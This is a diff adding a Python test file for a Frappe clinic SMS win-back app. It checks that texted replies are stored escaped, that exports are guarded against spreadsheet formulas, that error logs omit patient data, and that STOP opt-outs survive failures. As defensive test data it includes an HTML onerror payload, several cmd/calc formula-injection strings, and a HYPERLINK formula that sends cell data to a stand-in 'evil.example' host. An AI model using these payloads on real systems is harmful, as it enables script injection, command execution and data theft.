@@ -1,0 +1,306 @@
+"""What a stranger texts is data: stored inert through the real signed webhook, formula-proof in the desk's
+exports, never in an Error Log, and a STOP survives whatever fails after it was recorded."""
+
+import csv
+import html
+import io
+import json
+import random
+from contextlib import contextmanager
+
+from openpyxl import load_workbook
+
+import frappe
+from frappe.utils import now_datetime
+
+from winback_app import inbox
+from winback_app.engine.untrusted import as_text
+
+from . import factories as f
+from .test_inbox import AGENT, InboxCase
+
+PAYLOAD = "<img src=x onerror=\"document.title='pwned'\">"
+FORMULA_OPENERS = ("=", "+", "-", "@", "\t", "\r")
+NAMES = {"first_name": "Zebulon", "last_name": "Quixote-Marsh"}
+
+
+def unknown_number(taken=()) -> str:
+	"""A number no test patient has (907) and nobody opted out."""
+	from winback_app.engine.phone import normalize
+
+	while True:
+		number = normalize(f"(907) 555-01{random.randrange(100):02d}", "US")
+		if number not in taken and not frappe.db.exists("Win-Back SMS Opt-Out", number):
+			return number
+
+
+@contextmanager
+def replaced(module, name, replacement):
+	"""Swap one of OUR functions for the length of a block (never the host's)."""
+	original = getattr(module, name)
+	setattr(module, name, replacement)
+	try:
+		yield
+	finally:
+		setattr(module, name, original)
+
+
+def error_logs_since(start) -> list[str]:
+	rows = frappe.get_all(
+		"Error Log", filters={"creation": (">=", start)}, fields=["method", "error", "reference_name"]
+	)
+	return [f"{r.method}\n{r.error}\n{r.reference_name or ''}" for r in rows]
+
+
+class TestStoredInert(InboxCase):
+	def test_markup_through_the_signed_webhook_is_stored_as_text(self):
+		p, lapse, _a, number = self.patient_with_lapse()
+		response, sid = self.text(number, f"Is this ok? {PAYLOAD}\nsecond line")
+		self.assertEqual(response.status_code, 200)
+		reply = self.reply_row(sid)
+		for field in ("body", "matched", "from_number", "to_number", "answer"):
+			self.assertNotIn("<", reply.get(field) or "", field)
+		self.assertEqual(html.unescape(reply.body), f"Is this ok? {PAYLOAD}\nsecond line")
+
+		received = frappe.get_doc("Communication", reply.communication)
+		self.assertNotIn("<img", received.content)
+		self.assertEqual(received.content, f"Is this ok? {html.escape(PAYLOAD, quote=False)}<br>second line")
+		self.assertNotIn("<", received.text_content)
+		# The whole timeline of the lapse and the patient: nothing of ours holds a tag but <br>.
+		comms = frappe.get_all(
+			"Communication", {"reference_name": ("in", [lapse, sid])}, pluck="content"
+		) + frappe.get_all(
+			"Communication",
+			{"name": ("in", frappe.get_all("Communication Link", {"link_name": p}, pluck="parent"))},
+			pluck="content",
+		)
+		self.assertTrue(comms)
+		for content in comms:
+			self.assertNotIn("<", content.replace("<br>", ""))
+
+		# The front desk's ToDo quotes it, escaped (a Text Editor field, shown as HTML).
+		todo = frappe.get_all(
+			"ToDo", {"reference_type": "Win-Back SMS Reply", "reference_name": sid}, pluck="description"
+		)
+		self.assertEqual(len(todo), 1)
+		self.assertNotIn("<img", todo[0])
+		self.assertIn("&lt;img", todo[0])
+
+	def test_a_stop_with_markup_opts_out_and_stores_the_words_inert(self):
+		_p, lapse, _a, number = self.patient_with_lapse()
+		response, sid = self.text(number, f"Stop texting me {PAYLOAD}")
+		self.assertIn(b"unsubscribed", response.get_data())
+		words = frappe.db.get_value("Win-Back SMS Opt-Out", number, "words")
+		self.assertNotIn("<", words)
+		self.assertEqual(html.unescape(words), f"Stop texting me {PAYLOAD}")
+		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "Opted Out")
+
+	def test_long_markup_never_overflows_the_words_column(self):
+		_p, _l, _a, number = self.patient_with_lapse()
+		self.text(number, "STOP " + "<" * 400)
+		words = frappe.db.get_value("Win-Back SMS Opt-Out", number, "words")
+		self.assertLessEqual(len(words), 140)
+		self.assertTrue(words.startswith("STOP &lt;"))
+
+	def test_an_unreadable_sender_is_stored_inert(self):
+		_response, sid = self.text("<b>x</b>", "hello?")
+		self.assertNotIn("<", self.reply_row(sid).from_number)
+
+	def test_staff_typed_opt_out_words_are_formula_guarded(self):
+		from winback_app.engine.phone import normalize
+
+		number = normalize(f.mobile(), "US")
+		doc = frappe.get_doc(
+			{"doctype": "Win-Back SMS Opt-Out", "phone": number, "reason": "Opted Out", "source": "Staff"}
+		)
+		doc.words = "=cmd|' /C calc'!A0"
+		doc.insert(ignore_permissions=True)
+		self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "words"), "'=cmd|' /C calc'!A0")
+
+
+def export(doctype: str, fields: list[str], names: list[str], file_format: str) -> bytes:
+	"""The desk's Export (list / report view), as the browser calls it."""
+	from frappe.desk.reportview import export_query
+
+	frappe.local.form_dict = frappe._dict(
+		doctype=doctype,
+		file_format_type=file_format,
+		fields=json.dumps([f"`tab{doctype}`.`{field}`" for field in fields]),
+		filters=json.dumps([[doctype, "name", "in", names]]),
+		title=doctype,
+	)
+	frappe.response.pop("filecontent", None)
+	export_query()
+	return frappe.response["filecontent"]
+
+
+def cells(content: bytes, file_format: str) -> list[str]:
+	if file_format == "CSV":
+		return [c for row in csv.reader(io.StringIO(content.decode())) for c in row]
+	sheet = load_workbook(io.BytesIO(content)).active
+	out = []
+	for row in sheet.iter_rows():
+		for cell in row:
+			if cell.data_type == "f":
+				out.append("FORMULA:" + str(cell.value))
+			elif isinstance(cell.value, str):
+				out.append(cell.value)
+	return out
+
+
+class TestExports(InboxCase):
+	BODIES = (
+		'=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
+		"+1+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"\r=1+1",
+		"=STOP",
+		"-STOP",
+		"@stop",
+		"\tSTOP",
+	)
+
+	def test_frappe_itself_would_export_a_formula(self):
+		# The reason for the guard: frappe 15's XLSX export (openpyxl) writes "=..." as a live formula and its
+		# CSV export writes it as is.
+		from frappe.utils.xlsxutils import make_xlsx
+
+		self.assertEqual(cells(make_xlsx([["=1+1"]], "Sheet").getvalue(), "Excel"), ["FORMULA:=1+1"])
+
+	def test_replies_and_opt_out_words_never_open_with_a_formula(self):
+		sids, numbers, senders = [], [], []
+		for body in self.BODIES:
+			number = unknown_number(senders)
+			senders.append(number)
+			_r, sid = self.text(number, body)
+			sids.append(sid)
+			if frappe.db.exists("Win-Back SMS Opt-Out", number):
+				numbers.append(number)
+		self.assertGreaterEqual(len(numbers), 3, "some of them were STOPs")
+		for file_format in ("CSV", "Excel"):
+			values = cells(export("Win-Back SMS Reply", ["body", "matched"], sids, file_format), file_format)
+			values += cells(export("Win-Back SMS Opt-Out", ["words"], numbers, file_format), file_format)
+			for body in self.BODIES:  # every one is there, as text: an apostrophe in front
+				self.assertIn(as_text(body), values, (file_format, values))
+				self.assertTrue(as_text(body).startswith("'"))
+			for value in values:
+				self.assertFalse(value.startswith("FORMULA:"), (file_format, value))
+				self.assertFalse(value.startswith(FORMULA_OPENERS), (file_format, value))
+				self.assertFalse(value.lstrip().startswith(FORMULA_OPENERS), (file_format, value))
+
+
+class TestNoPatientDataInLogs(InboxCase):
+	def patient_details(self, p: str, number: str) -> list[str]:
+		doc = frappe.get_doc("Patient", p)
+		return [number, number[2:], doc.first_name, doc.last_name, doc.patient_name, doc.email]
+
+	def test_a_handler_that_raises_while_recording_logs_no_patient_data(self):
+		p, _lapse, _a, number = self.patient_with_lapse(**NAMES)
+		body = "My secret is Q7-hunter2, call me"
+		start = now_datetime()
+
+		def raising(reply):
+			# As a duplicate-key or data error would: the exception's text quotes the data it choked on.
+			raise frappe.db.InternalError(f"(1062, \"Duplicate entry '{reply.from_number}' {reply.body}\")")
+
+		with replaced(inbox, "record_reply", raising):
+			response, sid = self.text(number, body)
+		# The webhook answered (no exception reached frappe's handler, which would snapshot every frame's
+		# locals into an Error Log): Twilio sees the failure, the clinic's debugger shows it.
+		self.assertEqual(response.status_code, 500)
+		self.assertFalse(frappe.db.exists("Win-Back SMS Reply", sid))
+		logs = error_logs_since(start)
+		self.assertEqual(len(logs), 1, logs)
+		self.assertIn("InternalError", logs[0])
+		self.assertIn("record_inbound", logs[0], "the code path is there")
+		for secret in [*self.patient_details(p, number), body, "hunter2", sid]:
+			self.assertNotIn(secret, logs[0])
+
+	def test_acting_fails_after_a_stop_was_recorded(self):
+		"""The STOP and the reply stay; the text goes to a person; the log names the reply only."""
+		p, lapse, _a, number = self.patient_with_lapse(**NAMES)
+		token = frappe.db.get_value("Patient Lapse", lapse, "booking_token_hash") or ""
+		start = now_datetime()
+
+		def raising(name, plan):
+			raise RuntimeError(
+				f"lapse {name} of {number}: {frappe.db.get_value('Patient', p, 'patient_name')}"
+			)
+
+		with replaced(inbox, "apply_to_lapse", raising):
+			response, sid = self.text(number, "STOP please")
+		self.assertEqual(response.status_code, 200)
+		self.assertIn(b"unsubscribed", response.get_data(), "the recorded answer still goes out")
+		self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "active"), 1)
+		reply = self.reply_row(sid)
+		self.assertEqual((reply.intent, reply.needs_person), ("Stop", 1))
+		self.assertTrue(frappe.db.exists("Communication", reply.communication))
+		# The opt-out itself closed the lapse (it is part of recording); a person gets the reply.
+		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "Opted Out")
+		inbox.assign_waiting_replies()
+		self.assertTrue(
+			frappe.db.exists(
+				"ToDo", {"reference_type": "Win-Back SMS Reply", "reference_name": sid, "allocated_to": AGENT}
+			)
+		)
+		logs = error_logs_since(start)
+		self.assertEqual(len(logs), 1, logs)
+		self.assertIn(sid, logs[0], "the record's name, so someone can look")
+		for secret in [*self.patient_details(p, number), "STOP please", token or "no token"]:
+			self.assertNotIn(secret, logs[0])
+
+	def test_a_question_whose_alert_fails_is_assigned_by_the_safety_net(self):
+		_p, lapse, _a, number = self.patient_with_lapse()
+
+		def raising(reply, text):
+			raise RuntimeError("the short queue is down")
+
+		with replaced(inbox, "route_to_person", raising):
+			response, sid = self.text(number, "Do you take Delta insurance?")
+		self.assertIn(b"will text you back", response.get_data())
+		self.assertEqual(frappe.db.get_value("Patient Lapse", lapse, "status"), "In Cadence", "rolled back")
+		self.assertFalse(frappe.db.exists("ToDo", {"reference_name": sid}))
+		from winback_app.tasks import assign_waiting_replies
+
+		assign_waiting_replies()
+		self.assertTrue(frappe.db.exists("ToDo", {"reference_name": sid, "allocated_to": AGENT}))
+
+
+class TestStopIsCommittedFirst(InboxCase):
+	"""The one test that lets the webhook commit, as it does in production: acting fails the way a deadlock
+	does (MariaDB rolls the whole transaction back), and the STOP must already be on disk."""
+
+	def test_a_stop_survives_a_rolled_back_transaction_after_it(self):
+		number = unknown_number()
+		frappe.db.commit()  # this test's starting point (settings, users) is what the server would have
+
+		def deadlock(recorded):
+			frappe.db.rollback()  # what MariaDB does to a deadlock victim: everything not committed is gone
+			raise frappe.QueryDeadlockError("Deadlock found when trying to get lock")
+
+		sid = None
+		in_test = frappe.flags.in_test
+		try:
+			frappe.flags.in_test = False  # commit as in production
+			with replaced(inbox, "act_on", deadlock):
+				response, sid = self.text(number, "STOP")
+				frappe.db.commit()  # what frappe's request handler does when a POST returns a response
+			frappe.flags.in_test = in_test
+			self.assertEqual(response.status_code, 200)
+			frappe.db.rollback()  # a fresh look at what is on disk
+			self.assertEqual(frappe.db.get_value("Win-Back SMS Opt-Out", number, "active"), 1)
+			self.assertEqual(frappe.db.get_value("Win-Back SMS Reply", sid, "intent"), "Stop")
+			self.assertEqual(frappe.db.get_value("Win-Back SMS Reply", sid, "needs_person"), 1)
+		finally:
+			frappe.flags.in_test = in_test
+			frappe.db.rollback()
+			if sid:
+				comms = frappe.get_all("Communication", {"reference_name": sid}, pluck="name")
+				frappe.db.delete("Communication Link", {"parent": ("in", comms or [""])})
+				frappe.db.delete("Communication", {"name": ("in", comms or [""])})
+				frappe.db.delete("Win-Back SMS Reply", {"name": sid})
+			if number:
+				frappe.db.delete("Win-Back SMS Opt-Out", {"name": number})
+			frappe.db.delete("Error Log", {"reference_doctype": "Win-Back SMS Reply", "reference_name": sid})
+			f.reset_settings()
+			frappe.db.commit()
